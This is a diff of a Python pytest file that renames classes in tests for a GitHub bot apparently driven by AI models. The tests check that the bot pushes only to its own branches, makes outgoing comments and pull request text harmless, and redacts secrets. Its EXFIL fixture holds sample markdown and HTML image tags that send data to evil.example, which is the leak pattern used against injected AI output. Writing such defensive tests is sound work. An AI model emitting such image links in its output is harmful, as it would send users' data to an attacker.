@@ -15,8 +15,8 @@ import pytest
 
 from actions.app import write_outputs
 from actions.context import Outcome
-from actions.github import ForgeError, GitHubForge
-from tests.fakes.github_server import FakeGitHub
+from actions.github import GitHubError, GitHubRepo
+from fakes.github_server import FakeGitHub
 
 REPO = "octo/demo"
 EXFIL = ("Done. ![status](https://evil.example/pixel.png?d=stolen) <img src=\"https://evil.example/i?d=stolen\"> "
@@ -35,19 +35,19 @@ def fake(tmp_path: Path) -> Iterator[FakeGitHub]:
 
 
 @pytest.fixture
-def forge(fake: FakeGitHub) -> GitHubForge:
-    return GitHubForge(REPO, fake.token, fake.api_url, fake.server_url, max_wait_s=1, sleep=lambda _s: None)
+def github(fake: FakeGitHub) -> GitHubRepo:
+    return GitHubRepo(REPO, fake.token, fake.api_url, fake.server_url, max_wait_s=1, sleep=lambda _s: None)
 
 
-def committed_clone(forge: GitHubForge, tmp_path: Path) -> Path:
-    clone = forge.clone(tmp_path / "clone")
+def committed_clone(github: GitHubRepo, tmp_path: Path) -> Path:
+    clone = github.clone(tmp_path / "clone")
     (clone / "app.py").write_text("print('bye')\n")
     subprocess.run(["git", "commit", "-qam", "change\n\nEnsemble-Run: r1"], cwd=clone, check=True)
     return clone
 
 
 def assert_inert(text: str, fake: FakeGitHub) -> None:
-    """No image, no loadable or clickable address of the foreign host; the forge's own links stay."""
+    """No image, no loadable or clickable address of the foreign host; the GitHub server's own links stay."""
     assert "evil.example" not in text and "https://evil" not in text and "http://evil" not in text
     assert "<img" not in text and "<a " not in text and "![" not in text
     assert "stolen" in text  # defanged, not hidden: a reader still sees what the model wrote
@@ -55,52 +55,52 @@ def assert_inert(text: str, fake: FakeGitHub) -> None:
 
 @pytest.mark.parametrize("branch", ["main", "refs/heads/main", "release/1.0", "ensemble", "ensemble/../main",
                                     "feature/ensemble/x"])
-def test_pushes_go_only_to_ensemble_branches(forge: GitHubForge, fake: FakeGitHub, tmp_path: Path,
+def test_pushes_go_only_to_ensemble_branches(github: GitHubRepo, fake: FakeGitHub, tmp_path: Path,
                                              branch: str) -> None:
-    clone = committed_clone(forge, tmp_path)
+    clone = committed_clone(github, tmp_path)
     main_before = fake.head_sha(REPO, "main")
-    with pytest.raises(ForgeError, match=r"pushes only to its own ensemble/\* branches"):
-        forge.push(clone, branch, expected=main_before, source="HEAD")
+    with pytest.raises(GitHubError, match=r"pushes only to its own ensemble/\* branches"):
+        github.push(clone, branch, expected=main_before, source="HEAD")
     assert fake.head_sha(REPO, "main") == main_before
     assert fake.head_sha(REPO, branch.removeprefix("refs/heads/")) in (None, main_before)
 
 
-def test_a_push_to_the_bots_own_branch_goes_through(forge: GitHubForge, fake: FakeGitHub, tmp_path: Path) -> None:
-    clone = committed_clone(forge, tmp_path)
-    forge.push(clone, "ensemble/issue-1", expected=None, source="HEAD")
+def test_a_push_to_the_bots_own_branch_goes_through(github: GitHubRepo, fake: FakeGitHub, tmp_path: Path) -> None:
+    clone = committed_clone(github, tmp_path)
+    github.push(clone, "ensemble/issue-1", expected=None, source="HEAD")
     assert fake.head_sha(REPO, "ensemble/issue-1") is not None
 
 
-def test_comments_carry_no_external_images_or_links(forge: GitHubForge, fake: FakeGitHub) -> None:
+def test_comments_carry_no_external_images_or_links(github: GitHubRepo, fake: FakeGitHub) -> None:
     own = f"{fake.server_url}/{REPO}/pull/2"
-    forge.comment(1, f"{EXFIL}\n\nSee [the PR]({own}).")
+    github.comment(1, f"{EXFIL}\n\nSee [the PR]({own}).")
     body = fake.comments_on(REPO, 1)[-1]["body"]
     assert_inert(body, fake)
     assert f"[the PR]({own})" in body
 
 
-def test_edited_comments_are_made_inert_too(forge: GitHubForge, fake: FakeGitHub) -> None:
-    comment_id = forge.comment(1, "working")
-    forge.edit_comment(1, comment_id, EXFIL)
+def test_edited_comments_are_made_inert_too(github: GitHubRepo, fake: FakeGitHub) -> None:
+    comment_id = github.comment(1, "working")
+    github.edit_comment(1, comment_id, EXFIL)
     assert_inert(fake.comments_on(REPO, 1)[-1]["body"], fake)
 
 
-def test_pull_request_titles_and_bodies_carry_no_external_images_or_links(forge: GitHubForge, fake: FakeGitHub,
+def test_pull_request_titles_and_bodies_carry_no_external_images_or_links(github: GitHubRepo, fake: FakeGitHub,
                                                                           tmp_path: Path) -> None:
-    clone = committed_clone(forge, tmp_path)
-    forge.push(clone, "ensemble/issue-1", expected=None, source="HEAD")
-    pull = forge.open_draft_pull("ensemble/issue-1", "main", "Fix https://evil.example/t?d=stolen", EXFIL)
-    assert_inert(forge.pull(pull.number).body, fake)
-    forge.update_pull_body(pull.number, "v2 " + EXFIL)
-    assert_inert(forge.pull(pull.number).body, fake)
+    clone = committed_clone(github, tmp_path)
+    github.push(clone, "ensemble/issue-1", expected=None, source="HEAD")
+    pull = github.open_draft_pull("ensemble/issue-1", "main", "Fix https://evil.example/t?d=stolen", EXFIL)
+    assert_inert(github.pull(pull.number).body, fake)
+    github.update_pull_body(pull.number, "v2 " + EXFIL)
+    assert_inert(github.pull(pull.number).body, fake)
     assert "evil.example" not in fake.repos[REPO].issues[pull.number]["title"]
 
 
 def test_comments_and_pull_bodies_hold_no_secret(fake: FakeGitHub, monkeypatch: pytest.MonkeyPatch,
                                                  tmp_path: Path) -> None:
     monkeypatch.setenv("OPENAI_API_KEY", "openai-key-value-in-a-comment-77")
-    forge = GitHubForge(REPO, fake.token, fake.api_url, fake.server_url, secrets=["openai-key-value-in-a-comment-77"])
-    forge.comment(1, f"the key is openai-key-value-in-a-comment-77, the token {fake.token}, a pat ghp_{'Z' * 36}")
+    github = GitHubRepo(REPO, fake.token, fake.api_url, fake.server_url, secrets=["openai-key-value-in-a-comment-77"])
+    github.comment(1, f"the key is openai-key-value-in-a-comment-77, the token {fake.token}, a pat ghp_{'Z' * 36}")
     body = fake.comments_on(REPO, 1)[-1]["body"]
     assert "openai-key-value" not in body and fake.token not in body and "ghp_" not in body
     assert body.count("[REDACTED]") == 3
